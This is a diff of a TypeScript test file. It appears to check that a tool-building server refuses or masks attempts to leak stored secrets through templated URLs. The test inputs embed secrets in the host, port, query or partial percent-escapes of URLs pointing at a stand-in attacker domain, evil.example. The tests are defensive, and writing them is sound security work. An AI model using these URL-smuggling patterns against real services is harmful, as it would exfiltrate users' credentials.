@@ -126,13 +126,12 @@ describe('a builder who did not store a secret', () => {
     })
   })
 
-  it('cannot read it with other text that was bound before the global became a secret', async () => {
+  it('cannot bind it with other text before the global becomes a secret', async () => {
     await admin.expectOk('PUT', `/servers/${serverId}/globals/late`, { value: PIN })
-    const { body } = await fix({ url: `${carrier.origin}/?v={{number:value}}` }, '0.{{late}}e3')
-    await store('late', PIN)
-    const seen = carrier.seen.length
-    expect(await call(body)).toContain('a secret and other text')
-    expect(carrier.seen).toHaveLength(seen)
+    await fix({ url: `${carrier.origin}/?v={{number:value}}` }, '0.{{late}}e3')
+    const stored = await admin.send('PUT', `/servers/${serverId}/globals/late`, { value: PIN, secret: true })
+    const message = /In the tool "probe_\d+": the value bound to "value" contains a secret and other text/
+    expect(stored).toMatchObject({ status: 400, body: { detail: expect.stringMatching(message) } })
   })
 
   it('binds it in the path and the query of a fixed URL, where it is encoded', async () => {
@@ -146,12 +145,25 @@ describe('a builder who did not store a secret', () => {
 
   it.each([
     ['the path leaves it out again', 'https://api.hosts.example/{{slashes}}/..'],
-    ['it has dot segments', 'https://api.hosts.example/{{dots}}'],
     ['it continues an escape in the host', 'https://a%4{{token}}.hosts.example'],
+    ['it continues an escape in the path', 'https://api.hosts.example/%4{{pin}}'],
+    ['it continues an escape in the query', 'https://api.hosts.example/?a=%{{pin}}'],
     ['it is a part of a label', 'https://xn--{{token}}.hosts.example'],
     ['it is the port', 'https://api.hosts.example:{{pin}}'],
+    ['it is the beginning', '{{token}}/v1'],
+  ])('cannot bind it in a fixed URL if %s', async (_why, url) => {
+    expect(await fix({ url: '{{url:value}}' }, url)).toMatchObject({
+      status: 400,
+      body: { errors: [{ path: 'bindings.value', message: expect.stringContaining('must be a URL such as') }] },
+    })
+  })
+
+  it.each([
+    ['it has dot segments', 'https://api.hosts.example/{{dots}}'],
     ['it would end the host', 'https://{{slashes}}.hosts.example'],
+    ['the text around it, which contains another global, does not allow it', 'https://{{shard}}.hosts.example:{{pin}}'],
   ])('cannot use it in a fixed URL if %s', async (_why, url) => {
+    await admin.expectOk('PUT', `/servers/${serverId}/globals/shard`, { value: 'api' })
     const { body, status } = await fix({ url: '{{url:value}}/x' }, url)
     expect(status).toBe(201)
     expect(await call(body)).toContain('The value bound to')
@@ -164,7 +176,8 @@ describe('a builder who did not store a secret', () => {
     ['a port', '{{url:value}}', {}, 'https://evil.example:{{pin}}'],
     ['nothing else', '{{url:value}}', {}, 'https://{{token}}.evil.example'],
   ])('is not told it when a binding to a URL with %s is refused', async (_what, url, rule, value) => {
-    const { body } = await fix({ url, parameters: { value: rule } }, value)
+    const { body, status } = await fix({ url, parameters: { value: rule } }, value)
+    expect(status).toBe(400)
     expect(JSON.stringify(body)).not.toMatch(REVEALED)
   })
 
@@ -217,7 +230,6 @@ describe('a builder who did not store a secret', () => {
     ['a number', 'number', '8150.50', '8150.5'],
     ['a long number in JSON', 'json', '12345678901234567890', '12345678901234567000'],
     ['a text in JSON', 'json', '"c\\u0061nary"', 'canary'],
-    ['true or false', 'boolean', ' true ', 'true'],
   ])('sees a mask in place of a secret that is converted to %s', async (_what, type, value, shown) => {
     await store('converted', value)
     const answer = await attempt({ url: `https://evil.example/?v={{${type}:converted}}` })
